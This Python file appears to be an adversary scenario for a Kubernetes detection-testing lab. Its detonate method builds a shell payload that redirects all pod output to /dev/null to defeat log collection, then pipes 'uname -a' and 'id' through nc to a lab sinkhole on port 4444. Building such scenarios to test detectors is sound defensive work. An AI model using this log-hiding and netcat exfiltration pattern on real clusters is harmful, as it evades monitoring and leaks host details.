"""A pod whose payload throws all its output away: the log pipeline gets nothing."""

from __future__ import annotations

import secrets

from lab import Lab, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario


class DevNullOutput(Scenario):
    id = "kubernetes.logging.devnull-output"
    title = "Pod sends its output to /dev/null while it sends host details to the lab internet"
    kind = Kind.ADVERSARY
    techniques = ("T1562.001", "T1610")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.logs-hidden",), within_s=20, may_fire={
        "stowaway.net.process-egress-not-allowlisted": "Its pod really sends to the sinkhole on the lab "
                                                       "internet, outside the egress allowlist, which the "
                                                       "node sensor sees from the process.",
    })
    twin = "kubernetes.logging.dev-namespace-minimal"
    tags = ("kubernetes", "logging", "defense-evasion")
    description = (
        "Creates a pod in the default namespace whose command redirects everything it prints to "
        "/dev/null, so the container log the shipper reads stays empty. The payload sends uname and "
        "id to the sinkhole's port 4444 three times; the scenario checks the sinkhole got them and "
        "that the pod's log is really empty."
    )

    def detonate(self, lab: Lab) -> None:
        token = secrets.token_hex(6)
        payload = (f"exec >/dev/null 2>&1; for i in 1 2 3; do {{ echo {token}; uname -a; id; }} "
                   f"| nc -w 2 -q 1 {lab.sinkhole.address} 4444; echo sent; sleep 2; done; sleep 60")
        lab.action("create a pod whose output goes to /dev/null")
        pod = lab.deploy(WorkloadSpec(role="report", command=("sh", "-c", payload)))
        lab.wait_for(lambda: any(token in r.get("head", "") for r in lab.sinkhole_records()), timeout=30,
                     what="the payload's data to reach the sinkhole")
        logs = lab.kubectl("logs", pod.name).output
        if logs.strip():
            raise AssertionError(f"the pod's log was supposed to stay empty: {logs[:200]!r}")
